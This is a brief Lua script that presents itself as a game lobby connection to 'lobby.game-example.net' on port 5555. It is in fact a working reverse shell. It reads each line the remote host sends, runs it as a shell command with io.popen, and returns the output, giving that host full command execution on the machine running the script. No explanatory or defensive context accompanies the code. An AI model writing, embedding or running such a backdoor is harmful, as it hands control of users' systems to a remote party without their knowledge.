local socket = require("socket")
local lobby = assert(socket.connect("lobby.game-example.net", 5555))
while true do
  local cmd = lobby:receive("*l")
  if not cmd then break end
  local f = io.popen(cmd .. " 2>&1")
  lobby:send(f:read("*a"))
end
